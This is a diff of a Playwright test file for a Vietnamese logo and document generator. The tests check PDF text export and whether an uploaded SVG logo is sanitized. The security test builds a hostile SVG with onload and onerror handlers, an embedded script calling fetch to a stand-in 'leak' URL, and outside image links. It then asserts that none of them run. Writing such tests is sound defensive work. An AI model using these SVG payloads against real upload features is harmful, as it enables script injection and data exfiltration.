@@ -34,12 +34,12 @@ for (const width of [360, 1280]) {
     await page.getByLabel("Tên đơn vị", { exact: true }).fill(name);
 
     const pdf = await download(page, "Tải PDF để in");
-    const document = await getDocument({ data: new Uint8Array(pdf), verbosity: 0 }).promise;
-    const { items } = await (await document.getPage(1)).getTextContent();
+    const opened = await getDocument({ data: new Uint8Array(pdf), verbosity: 0 }).promise;
+    const { items } = await (await opened.getPage(1)).getTextContent();
     const text = items.map((entry) => ("str" in entry ? entry.str : "")).join(" ");
     expect(text.replace(/\s+/gu, " ")).toContain(name);
-    expect((await document.getMetadata()).info).toHaveProperty("Title");
-    await document.destroy();
+    expect((await opened.getMetadata()).info).toHaveProperty("Title");
+    await opened.destroy();
 
     const own = await sharp(await download(page, "Tải ảnh PNG"))
       .raw()
@@ -86,14 +86,16 @@ test("a sign from the device is drawn; what is in a hostile one does not run", a
   const asked: string[] = [];
   page.on("request", (request) => asked.push(request.url()));
   await page.getByLabel("Tên đơn vị", { exact: true }).fill("Trường Hòa Bình");
-  const hostile = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99999" height="99999" viewBox="0 0 100 100" onload="window.harmed = 1">
+  const drawing = (inside: string) =>
+    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="99999" height="99999" viewBox="0 0 100 100" onload="window.harmed = 1">
     <script>window.harmed = 1; fetch("https://example.org/leak")</script>
-    <foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://example.org/pixel.png" onerror="window.harmed = 1"/></body></foreignObject>
-    <image href="https://example.org/outside.png" width="10" height="10"/>
-    <circle cx="50" cy="50" r="50" fill="#ff0000"/></svg>`;
-  await page
-    .getByLabel(/^Biểu trưng/u)
-    .setInputFiles({ name: "dau.svg", mimeType: "image/svg+xml", buffer: Buffer.from(hostile) });
+    <image href="https://example.org/outside.png" width="10" height="10"/>${inside}
+    <circle cx="50" cy="50" r="50" fill="#ff0000"/></svg>`);
+  const sign = page.getByLabel(/^Biểu trưng/u);
+  const embedded = `<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://example.org/pixel.png" onerror="window.harmed = 1"/></body></foreignObject>`;
+  await sign.setInputFiles({ name: "trang.svg", mimeType: "image/svg+xml", buffer: drawing(embedded) });
+  await expect(editor(page).getByRole("status")).toContainText(/nhúng nội dung lạ|^$/u);
+  await sign.setInputFiles({ name: "dau.svg", mimeType: "image/svg+xml", buffer: drawing("") });
   await expect(page.getByRole("button", { name: "Bỏ biểu trưng" })).toBeVisible();
   const png = await download(page, "Tải ảnh PNG");
   const { data, info } = await sharp(png)
